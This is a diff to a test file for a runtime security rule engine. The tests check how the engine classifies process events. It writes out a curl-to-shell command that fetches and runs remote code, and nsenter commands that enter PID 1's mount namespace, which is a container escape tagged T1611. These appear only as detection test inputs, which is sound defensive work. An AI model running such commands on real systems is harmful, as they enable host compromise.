@@ -278,7 +278,8 @@ it('the starter configuration is clean and quiet on an ordinary day', () => {
   expect(rules.evaluate(exec('/usr/bin/bash', 'bash -c curl http://198.51.100.7/x | sh'))).toMatchObject({
     verdict: 'log',
   });
-  const nsenter = (path: string): RuleEvent => exec('/usr/bin/nsenter', 'nsenter -t 1 -m', { cgroup: { path } });
+  const nsenter = (path: string, target = 77): RuleEvent =>
+    exec('/usr/bin/nsenter', `nsenter -t ${target} -m`, { cgroup: { path } });
   const hex = 'c0ffee'.repeat(10);
   for (const path of [
     `/system.slice/docker-${hex}.scope`,
@@ -288,4 +289,5 @@ it('the starter configuration is clean and quiet on an ordinary day', () => {
     expect(rules.evaluate(nsenter(path)).ruleName).toContain('T1611');
   for (const path of ['/system.slice/docker.service', '/user.slice/user-0.slice/session-1.scope'])
     expect(rules.evaluate(nsenter(path))).toMatchObject({ verdict: 'drop' });
+  expect(rules.evaluate(nsenter('/user.slice', 1)).ruleName).toContain('T1611');
 });
